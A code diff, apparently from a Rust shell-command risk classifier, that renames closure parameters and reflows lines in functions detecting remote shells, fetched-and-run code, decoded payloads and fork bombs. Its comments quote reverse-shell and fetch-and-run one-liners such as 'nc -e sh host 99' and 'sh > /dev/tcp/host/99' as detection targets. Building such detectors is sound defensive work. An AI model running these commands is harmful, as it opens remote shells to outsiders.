@@ -94,19 +94,20 @@ impl Kinds {
 
     /// `python3 <(curl ...)`, and shells whose ends are on another machine: `nc -e sh host 99`, `sh > /dev/tcp/host/99`.
     fn remote(&mut self, views: &[View<'_>], groups: &[Redirected]) {
-        let connected =
-            views.iter().any(|it| SOCKETS.contains(&it.name.as_str()) && !hosts::of(it).is_empty());
+        let connected = views
+            .iter()
+            .any(|view| SOCKETS.contains(&view.name.as_str()) && !hosts::of(view).is_empty());
         let is_socket = |file: &str| file.starts_with("/dev/tcp/") || file.starts_with("/dev/udp/");
         let of_group = groups.iter().any(|(_, file)| is_socket(file));
         for view in views {
-            let words = view.command.words.iter().filter(|it| it.source.starts_with("<("));
+            let words = view.command.words.iter().filter(|word| word.source.starts_with("<("));
             for word in words.filter(|_| is_language(&view.name)) {
                 self.add_inside(&word.source, view.meter);
             }
             let is_shell = is_shell(&view.name);
             let socket = of_group || view.redirects.iter().any(|(_, file)| is_socket(file));
             let hands_over = SOCKETS.contains(&view.name.as_str())
-                && (view.says(HANDING_OVER) || view.args.iter().any(|it| says_exec(it)));
+                && (view.says(HANDING_OVER) || view.args.iter().any(|arg| says_exec(arg)));
             // `sh -i 2>&1 | nc host 99`
             let talks = is_shell && view.feeds() && view.has('i', "") && connected;
             if (is_shell && socket) || hands_over || talks {
@@ -120,12 +121,13 @@ impl Kinds {
         for view in views {
             let own = view.command.words.iter().skip(1).filter(|_| takes_code(view));
             let reads = takes_code(view) || (is_language(&view.name) && runs_input(view));
-            let targets = view.command.redirects.iter().filter_map(|it| match &it.target {
-                Target::Word(word) => Some(word).filter(|_| reads),
-                Target::HereDocument { .. } | Target::Closed => None,
-            });
+            let targets =
+                view.command.redirects.iter().filter_map(|redirect| match &redirect.target {
+                    Target::Word(word) => Some(word).filter(|_| reads),
+                    Target::HereDocument { .. } | Target::Closed => None,
+                });
             let all = own.chain(code_words(view)).chain(targets);
-            for word in all.filter(|it| it.kind == WordKind::Expansion) {
+            for word in all.filter(|word| word.kind == WordKind::Expansion) {
                 self.add_inside(&word.source, view.meter);
             }
         }
@@ -225,7 +227,7 @@ fn brings(view: &View<'_>) -> Option<&'static str> {
     }
     let decodes = DECODERS.iter().any(|(known, options)| {
         *known == name
-            && (options.is_empty() || view.args.iter().any(|it| options.contains(&it.as_str())))
+            && (options.is_empty() || view.args.iter().any(|arg| options.contains(&arg.as_str())))
     });
     let spelt = || {
         view.command.words.iter().any(|word| word.source.contains("$'") && is_escaped(&word.source))
@@ -233,7 +235,7 @@ fn brings(view: &View<'_>) -> Option<&'static str> {
     let escapes = matches!(name, "printf" | "echo")
         && (view.args.iter().any(|arg| is_escaped(arg)) || spelt());
     let prints = shell::strings::interpreter(name).is_some()
-        && literals::code(view).iter().any(|code| DECODING.iter().any(|it| code.contains(it)));
+        && literals::code(view).iter().any(|code| DECODING.iter().any(|text| code.contains(text)));
     (decodes || escapes || prints).then_some("decoded")
 }
 
@@ -278,7 +280,7 @@ fn is_escaped(text: &str) -> bool {
     let octal = text
         .split('\\')
         .skip(1)
-        .filter(|it| it.starts_with(|c: char| ('0'..='7').contains(&c)))
+        .filter(|part| part.starts_with(|c: char| ('0'..='7').contains(&c)))
         .count();
     hex >= 2 || octal >= 2
 }
@@ -302,24 +304,26 @@ fn runs_input(view: &View<'_>) -> bool {
             || behind_xargs(view);
     }
     if is_language(name) {
-        let says_code = |it: &String| {
-            shell::strings::interpreter(name).is_some_and(|options| options.contains(&it.as_str()))
-                || it == "-m"
+        let says_code = |arg: &String| {
+            shell::strings::interpreter(name).is_some_and(|options| options.contains(&arg.as_str()))
+                || arg == "-m"
         };
         return matches!(operands.first(), None | Some(&"-" | &"/dev/stdin"))
             && !view.args.iter().any(says_code)
-            && !view.args.iter().any(|it| it.starts_with("--") || it == "-V" || it == "-v");
+            && !view.args.iter().any(|arg| arg.starts_with("--") || arg == "-V" || arg == "-v");
     }
     // `ssh host bash`, `docker exec -i x sh`, `parallel`, `at now`
-    let last_is_shell = || operands.len() > 1 && operands.last().is_some_and(|it| is_shell(it));
+    let last_is_shell =
+        || operands.len() > 1 && operands.last().is_some_and(|operand| is_shell(operand));
     if REMOTE.contains(&name) {
         return last_is_shell() || (name == "ssh" && operands.len() == 1);
     }
     if QUEUES.contains(&name) {
-        return !view.has('l', "list") && (name == "at" || operands.iter().all(|it| *it == "-"));
+        return !view.has('l', "list")
+            && (name == "at" || operands.iter().all(|operand| *operand == "-"));
     }
     if name == "eval" {
-        return view.command.words.iter().any(|it| it.kind == WordKind::Expansion);
+        return view.command.words.iter().any(|word| word.kind == WordKind::Expansion);
     }
     if MAKERS.contains(&name) {
         return elsewhere::makes_input(view);
@@ -349,7 +353,7 @@ fn behind_xargs(view: &View<'_>) -> bool {
     let xargs = view.command.via.last() == Some(&Via::Wrapper("xargs"));
     xargs
         && view.has('c', "command")
-        && view.command.words.iter().any(|it| it.kind == WordKind::Expansion)
+        && view.command.words.iter().any(|word| word.kind == WordKind::Expansion)
 }
 
 /// Whether words or redirections of a command are code.
@@ -370,7 +374,8 @@ fn inside(source: &str, meter: &Meter<'_>) -> Vec<&'static str> {
 /// line, so that a text about one is none; where the line cannot be read, letters are all there is.
 fn is_fork_bomb(line: &Line, text: &str) -> bool {
     let squeezed: String = text.chars().filter(|c| !c.is_whitespace()).collect();
-    let programs: HashSet<&str> = line.commands.iter().filter_map(|it| it.program()).collect();
+    let programs: HashSet<&str> =
+        line.commands.iter().filter_map(|command| command.program()).collect();
     let mut bodies = squeezed.split('{').skip(1);
     bodies.any(|body| {
         let Some((name, rest)) = body.split_once('|') else { return false };
